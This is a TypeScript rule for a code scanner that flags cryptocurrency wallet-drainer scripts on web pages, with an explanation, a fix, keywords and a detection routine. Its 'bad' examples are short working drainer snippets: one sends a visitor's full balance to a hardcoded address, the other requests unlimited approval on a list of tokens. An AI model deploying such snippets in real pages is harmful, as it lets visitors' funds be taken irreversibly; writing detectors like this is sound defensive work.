import type { FileCheck } from '../../check.ts';
import { drainsIn } from '../../facts/acts/drained-wallets.ts';

const SCRIPTS: ReadonlySet<string> = new Set(['javascript', 'typescript']);

export const check: FileCheck = {
  id: 'data-handling-wallet-drainer',
  title: "Empties a visitor's wallet",
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The page has the wallet of whoever opens it pay all it holds to a receiver who is written in the code, or asks for leave
    to take everything of every token in a list. One click, and nothing can be called back.`,
  fix: 'Remove it. Whoever signed something on the page revokes every approval and moves what is left to another wallet.',
  blindSpots: 'A receiver that a server names, and a script that was bundled and minified, are not seen.',
  wants: {
    keywords: [
      'window.ethereum',
      'window.solana',
      'window.phantom',
      'eth_requestaccounts',
      'browserprovider',
      'web3provider',
    ],
  },
  examples: {
    bad: [
      {
        'claim.js': `
          const TO = '0x52908400098527886E0F7030069857D2E4169EE7';
          async function claim() {
            const provider = new ethers.BrowserProvider(window.ethereum);
            const signer = await provider.getSigner();
            const balance = await provider.getBalance(signer.address);
            const value = balance - fee;
            await signer«.sendTransaction»({ to: TO, value });
          }`,
      },
      {
        'claim.js': `
          const tokens = [
            '0x52908400098527886E0F7030069857D2E4169EE1', '0x52908400098527886E0F7030069857D2E4169EE2',
            '0x52908400098527886E0F7030069857D2E4169EE3', '0x52908400098527886E0F7030069857D2E4169EE4',
            '0x52908400098527886E0F7030069857D2E4169EE5'];
          async function claim() {
            await window.ethereum.request({ method: 'eth_requestAccounts' });
            «for (const token of tokens) »{
              const contract = new ethers.Contract(token, ABI, signer);
              await contract.approve(TAKER, ethers.MaxUint256);
            }
          }`,
      },
    ],
    good: [
      {
        'send.js': `
          const provider = new ethers.BrowserProvider(window.ethereum);
          const balance = await provider.getBalance(account);
          const max = balance - fee;
          await signer.sendTransaction({ to: form.receiver.value, value: max });`,
      },
      {
        'donate.js': `
          const provider = new ethers.BrowserProvider(window.ethereum);
          show(await provider.getBalance(account));
          await signer.sendTransaction({ to: '0x52908400098527886E0F7030069857D2E4169EE7', value: parseEther(amount) });`,
      },
      {
        'swap.js': `
          await window.ethereum.request({ method: 'eth_requestAccounts' });
          await token.approve('0x52908400098527886E0F7030069857D2E4169EE7', ethers.MaxUint256);`,
      },
    ],
  },

  *find({ text, language, places, span }) {
    if (!SCRIPTS.has(language) || [...places].length === 0) return;
    for (const { start, end, what } of drainsIn(text, language)) {
      yield {
        at: span(start, end),
        message:
          what === 'balance'
            ? "All that a visitor's wallet holds is paid to a receiver who is written here."
            : 'Leave to take everything of every token in a list is asked for, one token after the other.',
      };
    }
  },
};
